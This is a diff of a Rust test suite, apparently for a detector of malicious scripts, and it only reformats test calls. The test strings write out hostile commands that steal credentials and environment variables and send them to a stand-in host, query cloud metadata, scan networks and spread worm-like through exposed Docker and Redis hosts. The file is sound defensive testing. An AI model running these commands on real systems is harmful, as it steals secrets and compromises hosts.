@@ -7,7 +7,8 @@ fn check(script: &str, expect: &[&str]) {
 
 #[test]
 fn collected_credentials_that_are_sent_convict() {
-    let stealer = "tar czf /tmp/l.tgz ~/.aws/credentials ~/.ssh/id_rsa ~/.kube/config ~/.docker/config.json\n";
+    let stealer =
+        "tar czf /tmp/l.tgz ~/.aws/credentials ~/.ssh/id_rsa ~/.kube/config ~/.docker/config.json\n";
     check(&format!("{stealer}curl -F f=@/tmp/l.tgz https://h.example/u\n"), &["CRE-STEALER!"]);
     check(&format!("{stealer}curl -F f=@/tmp/l.tgz $URL\n"), &["CRE-STEALER?"]);
     check(&format!("{stealer}echo done\n"), &[]);
@@ -24,7 +25,10 @@ fn collected_credentials_that_are_sent_convict() {
     );
     // Not three kinds, or not sent anywhere.
     check("cp ~/.aws/credentials /tmp/c\ncurl -T /tmp/c https://h.example/\n", &[]);
-    check("cp /secrets/id_rsa ~/.ssh/id_rsa\nchmod 600 ~/.ssh/id_rsa\ncp /secrets/k ~/.kube/config\ncp /s/d ~/.docker/config.json\ncurl -d started https://h.example/\n", &[]);
+    check(
+        "cp /secrets/id_rsa ~/.ssh/id_rsa\nchmod 600 ~/.ssh/id_rsa\ncp /secrets/k ~/.kube/config\ncp /s/d ~/.docker/config.json\ncurl -d started https://h.example/\n",
+        &[],
+    );
     check("restic -r s3:https://h.example/b backup /data\nrclone sync /data remote:b\n", &[]);
 }
 
@@ -35,7 +39,11 @@ fn environments_that_are_sent_convict() {
     check("curl -d \"$(env)\" \"$REPORT_URL\"\n", &["EXF-ENV?"]);
     check("env | nc 192.0.2.7 9\n", &["EXF-ENV!"]);
     check_command(&Theft, &["sh", "-c", "env | curl -d @- https://h.example/"], &["EXF-ENV!"]);
-    check_command(&Theft, &["python3", "-c", "import os,requests;requests.post('https://h.example',json=dict(os.environ))"], &["EXF-ENV!"]);
+    check_command(
+        &Theft,
+        &["python3", "-c", "import os,requests;requests.post('https://h.example',json=dict(os.environ))"],
+        &["EXF-ENV!"],
+    );
     check_file(
         &Theft,
         "app.js",
@@ -66,7 +74,10 @@ fn environments_that_are_sent_convict() {
 fn other_theft_corroborates() {
     check("curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/role\n", &["CRE-IMDS?"]);
     check("curl -s http://169.254.169.254/latest/meta-data/placement/region\n", &[]);
-    check("curl -d \"$(curl -s http://169.254.169.254/latest/user-data)\" https://h.example/\n", &["CRE-IMDS?"]);
+    check(
+        "curl -d \"$(curl -s http://169.254.169.254/latest/user-data)\" https://h.example/\n",
+        &["CRE-IMDS?"],
+    );
     check(
         "T=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)\ncurl -H \"Authorization: Bearer $T\" https://h.example/\n",
         &["CRE-SATOKEN?"],
@@ -85,7 +96,10 @@ fn other_theft_corroborates() {
     check("dig +short h.example\nnslookup $HOST.h.example\n", &[]);
     check("masscan $R -p2375 --rate 1000\n", &["DIS-MASSCAN?"]);
     check("nmap -p 80 h.example\n", &[]);
-    check("I=$(curl -s https://ifconfig.me)\ncurl -d \"$I $(nproc)\" https://h.example/\n", &["DIS-PROFILE?"]);
+    check(
+        "I=$(curl -s https://ifconfig.me)\ncurl -d \"$I $(nproc)\" https://h.example/\n",
+        &["DIS-PROFILE?"],
+    );
     check("I=$(curl -s https://ifconfig.me)\ncurl \"https://dns.h.example/update?ip=$I\"\n", &[]);
     check("kubectl auth can-i --list\n", &["DIS-KUBERECON?"]);
     check("kubectl apply -f /m.yaml\nkubectl get pods\n", &[]);
@@ -94,6 +108,12 @@ fn other_theft_corroborates() {
 #[test]
 fn spreading_convicts() {
     check("for h in $(cat /tmp/ips); do docker -H tcp://$h:2375 run -d x; done\n", &["LAT-WORM!"]);
-    check("while read h; do redis-cli -h $h config set dir /var/spool/cron; done < /tmp/ips\n", &["LAT-WORM!"]);
-    check("docker -H tcp://docker:2375 run -d x\ndocker -H $DOCKER_HOST run x\nredis-cli -h $H ping\nssh u@$HOST uptime\n", &[]);
+    check(
+        "while read h; do redis-cli -h $h config set dir /var/spool/cron; done < /tmp/ips\n",
+        &["LAT-WORM!"],
+    );
+    check(
+        "docker -H tcp://docker:2375 run -d x\ndocker -H $DOCKER_HOST run x\nredis-cli -h $H ping\nssh u@$HOST uptime\n",
+        &[],
+    );
 }
